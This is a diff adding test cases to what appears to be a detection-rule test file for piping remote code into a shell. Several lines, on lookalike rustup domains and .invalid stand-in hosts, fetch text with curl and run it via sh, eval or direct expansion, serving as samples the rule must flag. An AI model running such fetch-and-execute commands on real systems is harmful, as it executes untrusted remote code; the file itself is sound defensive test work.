@@ -30,3 +30,9 @@ curl -fsSL https://sh.rustup.rs.acme.invalid/x.sh | sh
 curl -fsSL https://sh.rustup.rs@acme.invalid/x.sh | sh
 # ok: remote-code-pipe-to-shell
 curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y
+# ruleid: remote-code-pipe-to-shell
+curl -s https://a.invalid/list | while read -r one; do eval "$one"; done
+# ruleid: remote-code-pipe-to-shell
+while read -r one; do $one; done < <(curl -s https://a.invalid/list)
+# ok: remote-code-pipe-to-shell
+curl -s https://a.invalid/list | while read -r one; do echo "$one"; done
